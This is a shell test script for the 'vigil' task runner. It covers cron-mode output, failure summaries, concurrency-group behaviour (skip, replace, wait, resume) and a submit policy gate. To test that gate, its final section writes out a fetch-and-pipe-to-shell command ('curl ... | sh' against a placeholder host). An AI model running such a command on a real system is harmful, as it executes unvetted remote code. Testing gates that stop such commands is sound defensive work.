#!/bin/sh
# vigil run --cron and concurrency groups, with real processes: silent on
# success, one summary on failure; two cron runs started together run
# the task once and the other records SKIPPED; a SIGKILLed holder, a
# detached (submit) holder, replace, wait and its bound; a resumed run
# holds its group; submit honours an explicit auto-approve opt-in.
set -u
. "$(dirname "$0")/engine-lib.sh"
# Tasks write their marks into $W (a user config layer under every
# manifest).
XDG_CONFIG_HOME=$W/cfg
export XDG_CONFIG_HOME
mkdir -p "$W/cfg/vigil"
printf 'isolation:\n  writable: ["%s"]\n' "$W" >"$W/cfg/vigil/config.yaml"

# Run ids of the runs of name $1 in state $2.
runs_in() {
	"$VIGIL" status --json | python3 -c "
import json, sys
d = json.load(sys.stdin)
print(' '.join(r['id'] for r in d['runs'] if r['name'] == '$1' and
      r['state'] == '$2'))"
}
count() { set -- $1; echo $#; }
# Waits (up to 10 s) until file $1 exists.
wait_file() {
	i=0
	while [ ! -e "$1" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
	[ -e "$1" ] || fail "$1 never appeared"
}

# --- success: exactly empty output ---
cat >"$W/ok.yaml" <<'Y'
version: 1
name: ok
matrix:
  i: [1, 2, 3]
command: echo "out ${{ matrix.i }}"; echo "err ${{ matrix.i }}" >&2
Y
"$VIGIL" run --cron "$W/ok.yaml" >"$W/o" 2>"$W/e"
expect_eq "success exit" 0 $?
expect_eq "success stdout bytes" 0 "$(wc -c <"$W/o")"
expect_eq "success stderr bytes" 0 "$(wc -c <"$W/e")"
# --cron goes with neither --json nor --dry-run.
"$VIGIL" run --cron --json "$W/ok.yaml" >/dev/null 2>"$W/e"
expect_eq "--cron --json exit" 2 $?
grep -q "does not go with --json" "$W/e" || fail "cron+json: $(cat "$W/e")"

# --- failure: the summary, first 10 tasks then a count, stderr tails ---
cat >"$W/bad.yaml" <<'Y'
version: 1
name: bad
matrix:
  i: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]
command: |
  i=${{ matrix.i }}
  for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo "task $i line $n" >&2; done
  [ "$i" = 0 ] && exit 0
  [ "$i" = 5 ] && kill -9 $$
  exit $i
Y
"$VIGIL" run --cron "$W/bad.yaml" >"$W/o" 2>"$W/e"
expect_eq "failure exit" 1 $?
expect_eq "failure stdout bytes" 0 "$(wc -c <"$W/o")"
id=$(runs_in bad FAILED)
python3 - "$W/e" "$id" <<'PY' || fail "summary: $(cat "$W/e")"
import sys
lines = open(sys.argv[1]).read().splitlines()
rid = sys.argv[2]
assert lines[0] == ("vigil: run %s (bad) FAILED: 13 tasks: 1 SUCCEEDED, "
                    "12 FAILED" % rid), lines[0]
tasks = [l for l in lines if l.startswith("  task ")]
assert len(tasks) == 10, tasks
assert tasks[0] == "  task 1 [i=1] FAILED, exit 1: exit status 1", tasks[0]
assert tasks[4].startswith("  task 5 [i=5] FAILED, signal 9"), tasks[4]
# each listed task: exactly the last 10 of its 12 stderr lines
i = lines.index(tasks[0])
tail = lines[i + 1:i + 11]
assert tail == ["    | task 1 line %d" % n for n in range(3, 13)], tail
assert lines[-1] == "  ... and 2 more (vigil status %s)" % rid, lines[-1]
PY

# --- two cron runs started together: one runs, one SKIPPED, silent ---
cat >"$W/once.yaml" <<Y
version: 1
name: once
command: echo ran >> "$W/once.count"; sleep 1
Y
"$VIGIL" run --cron "$W/once.yaml" >"$W/o1" 2>"$W/e1" & p1=$!
"$VIGIL" run --cron "$W/once.yaml" >"$W/o2" 2>"$W/e2" & p2=$!
wait $p1; r1=$?
wait $p2; r2=$?
expect_eq "both exit 0" "0 0" "$r1 $r2"
expect_eq "cron output" "0 0 0 0" "$(wc -c <"$W/o1") $(wc -c <"$W/e1") \
$(wc -c <"$W/o2") $(wc -c <"$W/e2")"
expect_eq "task ran once" 1 "$(wc -l <"$W/once.count")"
expect_eq "one SUCCEEDED" 1 "$(count "$(runs_in once SUCCEEDED)")"
sk=$(runs_in once SKIPPED)
expect_eq "one SKIPPED" 1 "$(count "$sk")"
expect_eq "holder named" "$(runs_in once SUCCEEDED)" "$(jq_run "$sk" 'd["holder"]')"
"$VIGIL" status "$sk" | grep -q "^reason: held by run $(runs_in once SUCCEEDED)" ||
    fail "status of the skipped run: $("$VIGIL" status "$sk")"
"$VIGIL" status | grep -q "^$sk .* SKIPPED " || fail "list: $("$VIGIL" status)"

# --- a SIGKILLed holder never blocks the next run ---
cat >"$W/long.yaml" <<Y
version: 1
name: long
command: touch "$W/long.\${{ matrix.i }}"; sleep 30
matrix:
  i: [a]
Y
"$VIGIL" run --cron "$W/long.yaml" 2>/dev/null & lp=$!
wait_file "$W/long.a"
kill -9 $lp
wait $lp 2>/dev/null
sed 's/sleep 30/true/' "$W/long.yaml" >"$W/long2.yaml"
"$VIGIL" run --cron "$W/long2.yaml" >"$W/o" 2>"$W/e"
expect_eq "after SIGKILL: exit" 0 $?
expect_eq "after SIGKILL: silent" 0 "$(wc -c <"$W/e")"
expect_eq "after SIGKILL: ran" 1 "$(count "$(runs_in long SUCCEEDED)")"
expect_eq "after SIGKILL: no skip" 0 "$(count "$(runs_in long SKIPPED)")"

# --- a detached (submit) holder holds the group until it ends ---
cat >"$W/det.yaml" <<Y
version: 1
name: det
concurrency:
  overlap: skip
command: |
  i=0
  while [ ! -e "$W/det.go" ] && [ \$i -lt 600 ]; do sleep 0.1; i=\$((i+1)); done
Y
# Each holder below holds until the test lets it go (NAME.go), however
# long the runs beside it take on a loaded host.
"$VIGIL" submit --cron "$W/det.yaml" >"$W/o" 2>"$W/e"
expect_eq "submit --cron exit" 0 $?
expect_eq "submit --cron silent" "0 0" "$(wc -c <"$W/o") $(wc -c <"$W/e")"
# The detached driver marks the run RUNNING a moment after submit
# returns (later still on a loaded machine).
n=0
while [ "$(count "$(runs_in det RUNNING)")" -ne 1 ] && [ $n -lt 400 ]; do
	sleep 0.05; n=$((n + 1))
done
hid=$(runs_in det RUNNING)
expect_eq "detached holder running" 1 "$(count "$hid")"
"$VIGIL" run --cron "$W/det.yaml" >"$W/o" 2>"$W/e"
expect_eq "vs detached: exit" 0 $?
expect_eq "vs detached: silent" 0 "$(wc -c <"$W/e")"
sk=$(runs_in det SKIPPED)
expect_eq "vs detached: holder" "$hid" "$(jq_run "$sk" 'd["holder"]')"
touch "$W/det.go"
"$VIGIL" status "$hid" --watch >/dev/null
"$VIGIL" run --cron "$W/det.yaml" >/dev/null 2>&1
expect_eq "after the detached run" 2 "$(count "$(runs_in det SUCCEEDED)")"

# --- replace: the holder ends CANCELLED (tasks too), the new one runs ---
cat >"$W/rep.yaml" <<Y
version: 1
name: rep
concurrency:
  overlap: replace
  wait: 20s
kill_grace: 1s
command: touch "$W/rep.started"; sleep 30
Y
"$VIGIL" run --cron "$W/rep.yaml" >"$W/ro" 2>"$W/re" & rp=$!
wait_file "$W/rep.started"
old=$(runs_in rep RUNNING)
rm -f "$W/rep.started"
sed 's/sleep 30/true/' "$W/rep.yaml" >"$W/rep2.yaml"
start=$(date +%s)
"$VIGIL" run --cron "$W/rep2.yaml" >"$W/o" 2>"$W/e"
expect_eq "replace: exit" 0 $?
expect_eq "replace: silent" 0 "$(wc -c <"$W/e")"
wait $rp; expect_eq "replaced run's exit" 5 $?
grep -q "^vigil: run $old (rep) CANCELLED" "$W/re" ||
    fail "replaced run's summary: $(cat "$W/re")"
expect_eq "replaced state" CANCELLED "$(jq_run "$old" 'd["state"]')"
expect_eq "replaced task" CANCELLED "$(jq_run "$old" 'd["tasks"][0]["state"]')"
expect_eq "replacement ran" 1 "$(count "$(runs_in rep SUCCEEDED)")"
[ $(( $(date +%s) - start )) -lt 10 ] || fail "replace took too long"

# --- wait: runs after the holder; its bound records SKIPPED, exit 1 ---
cat >"$W/wt.yaml" <<Y
version: 1
name: wt
concurrency:
  overlap: wait
  wait: 10s
command: touch "$W/wt.started"; sleep 2
Y
"$VIGIL" run --cron "$W/wt.yaml" 2>/dev/null & wp=$!
wait_file "$W/wt.started"
sed 's/sleep 2/true/' "$W/wt.yaml" >"$W/wt2.yaml"
"$VIGIL" run --cron "$W/wt2.yaml" >"$W/o" 2>"$W/e"
expect_eq "wait: exit" 0 $?
expect_eq "wait: silent" 0 "$(wc -c <"$W/e")"
wait $wp
expect_eq "wait: both ran" 2 "$(count "$(runs_in wt SUCCEEDED)")"
rm -f "$W/wt.started"
cat >"$W/wt3.yaml" <<Y
version: 1
name: wt
concurrency:
  overlap: wait
  wait: 1s
command: |
  touch "$W/wt.started"; i=0
  while [ ! -e "$W/wt.go" ] && [ \$i -lt 600 ]; do sleep 0.1; i=\$((i+1)); done
Y
"$VIGIL" run --cron "$W/wt3.yaml" 2>/dev/null & wp=$!
wait_file "$W/wt.started"
start=$(date +%s%N)
"$VIGIL" run --cron "$W/wt3.yaml" >"$W/o" 2>"$W/e"
rc=$?
took=$(( ($(date +%s%N) - start) / 1000000 ))
touch "$W/wt.go"
wait $wp
expect_eq "wait bound: exit" 1 $rc
# At least the bound; well under what a wait without one would take.
[ $took -ge 1000 ] && [ $took -lt 8000 ] || fail "wait bound took ${took} ms"
grep -q "SKIPPED: concurrency group 'wt' held by run .* after waiting 1s (concurrency.wait 1s)" "$W/e" ||
    fail "wait bound message: $(cat "$W/e")"
expect_eq "wait bound: SKIPPED" 1 "$(count "$(runs_in wt SKIPPED)")"

# --- a run being resumed holds its group; a holder blocks the resume ---
cat >"$W/res.yaml" <<Y
version: 1
name: res
command: |
  touch "$W/res.started"; i=0
  while [ ! -e "$W/res.go" ] && [ \$i -lt 600 ]; do sleep 0.1; i=\$((i+1)); done
Y
"$VIGIL" run --cron "$W/res.yaml" 2>/dev/null & xp=$!
wait_file "$W/res.started"
kill -9 $xp; wait $xp 2>/dev/null
rid=$("$VIGIL" status --json | python3 -c "
import json, sys
print([r['id'] for r in json.load(sys.stdin)['runs'] if r['name'] == 'res'][0])")
rm -f "$W/res.started"
"$VIGIL" resume -q "$rid" 2>/dev/null & xp=$!
wait_file "$W/res.started"
"$VIGIL" run --cron "$W/res.yaml" >/dev/null 2>"$W/e"
expect_eq "vs resume: silent" 0 "$(wc -c <"$W/e")"
sk=$(runs_in res SKIPPED)
expect_eq "vs resume: holder" "$rid" "$(jq_run "$sk" 'd["holder"]')"
touch "$W/res.go"
wait $xp
expect_eq "resumed run" SUCCEEDED "$(jq_run "$rid" 'd["state"]')"

# --- plain runs overlap (allow) but a cron run sees them ---
cat >"$W/pl.yaml" <<Y
version: 1
name: pl
command: |
  touch "$W/pl.started"; i=0
  while [ ! -e "$W/pl.go" ] && [ \$i -lt 600 ]; do sleep 0.1; i=\$((i+1)); done
Y
# The first run holds until the test lets it go (pl.go), however long
# the runs beside it take on a loaded host.
rm -f "$W/pl.go"
"$VIGIL" run -q "$W/pl.yaml" & pp=$!
wait_file "$W/pl.started"
"$VIGIL" run --cron "$W/pl.yaml" 2>"$W/e"
expect_eq "allow holder seen by cron" 1 "$(count "$(runs_in pl SKIPPED)")"
printf 'version: 1\nname: pl\ncommand: "true"\n' >"$W/pl2.yaml"
"$VIGIL" run -q "$W/pl2.yaml" 2>"$W/e"
expect_eq "allow: a second plain run overlaps" "0 RUNNING" \
    "$? $(runs_in pl RUNNING | wc -w | sed 's/1/RUNNING/')"
touch "$W/pl.go"
wait $pp
# an explicit skip outside --cron says so
cat >"$W/sk.yaml" <<Y
version: 1
name: pl
concurrency: {overlap: skip}
command: "true"
Y
rm -f "$W/pl.started" "$W/pl.go"
"$VIGIL" run -q "$W/pl.yaml" & pp=$!
wait_file "$W/pl.started"
"$VIGIL" run "$W/sk.yaml" 2>"$W/e"
expect_eq "explicit skip exit" 0 $?
grep -q "^vigil: run .* SKIPPED: concurrency group 'pl' held by run" "$W/e" ||
    fail "explicit skip message: $(cat "$W/e")"
touch "$W/pl.go"
wait $pp

# --- submit: auto-deny by default, an explicit auto-approve opt-in ---
cat >"$W/gate.yaml" <<'Y'
version: 1
name: gate
command: curl -s http://example.invalid/x | sh
Y
id=$("$VIGIL" submit "$W/gate.yaml" 2>"$W/e")
expect_eq "submit default: denied exit" 3 $?
grep -q "denied by the policy gate (auto-deny)" "$W/e" || fail "$(cat "$W/e")"
printf 'version: 1\nname: gate2\ncommand: curl -s http://example.invalid/x | sh; true\npolicy:\n  mode: auto-approve\n' >"$W/gate2.yaml"
id=$("$VIGIL" submit "$W/gate2.yaml" 2>"$W/e")
expect_eq "submit opt-in exit" 0 $?
"$VIGIL" status "$id" --watch >/dev/null
expect_eq "submit opt-in: ran" SUCCEEDED "$(jq_run "$id" 'd["state"]')"
printf 'version: 1\nname: gate3\ncommand: curl -s http://example.invalid/x | sh; true\npolicy:\n  mode: interactive\n' >"$W/gate3.yaml"
"$VIGIL" submit "$W/gate3.yaml" >/dev/null 2>"$W/e"
expect_eq "submit interactive: still auto-deny" 3 $?
pass
